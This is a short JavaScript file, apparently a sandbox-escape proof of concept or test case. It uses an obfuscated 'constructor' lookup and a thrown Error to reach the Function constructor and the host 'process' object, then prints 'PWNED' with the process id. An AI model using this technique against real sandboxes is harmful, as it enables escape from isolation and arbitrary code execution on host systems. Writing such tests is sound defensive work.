'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
class E extends Error { constructor(x) { super(''); this.x = x; } }
let kept;
try { throw new E(t); } catch (e) { kept = e.x; }
const o = Date.now() > 1 ? kept : {};
console.log('PWNED', o.go(fn)('return process')().pid);
